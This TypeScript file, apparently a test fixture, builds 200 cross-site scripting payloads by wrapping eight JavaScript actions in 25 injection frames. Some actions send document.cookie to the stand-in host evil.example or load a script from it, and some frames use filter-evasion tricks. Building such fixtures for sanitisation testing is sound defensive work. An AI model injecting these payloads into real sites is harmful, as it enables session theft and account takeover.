const acts = [
  "alert(1)",
  "alert(document.domain)",
  "confirm`1`",
  "print()",
  "top['al'+'ert'](1)",
  "fetch('//evil.example/?'+document.cookie)",
  "location='//evil.example'",
  "import('//evil.example/x.js')",
];

const frames: ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `"><script>${act}</script>`,
  (act) => `'><img src=x onerror=${act}>`,
  (act) => `<svg/onload=${act}>`,
  (act) => `<img src="x" onerror="${act}">`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</title><svg onload=${act}>`,
  (act) => `--><script>${act}</script><!--`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}">`,
  (act) => `<a href="javascript:${act}">link</a>`,
  (act) => `javascript:${act}`,
  (act) => `" autofocus onfocus=${act} x="`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  (act) => `<style>@import 'javascript:${act}'</style>`,
  (act) => `<body onload=${act}>`,
  (act) => `<video><source onerror=${act}></video>`,
  (act) => `<form action="javascript:${act}"><button>x</button></form>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `\${${act}}`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `=HYPERLINK("javascript:${act}","x")`,
];

/** 200 texts that would run something where they are not taken as text; each can be stored as a message. */
export const hostileMarkup: readonly string[] = frames.flatMap((frame) => acts.map(frame));
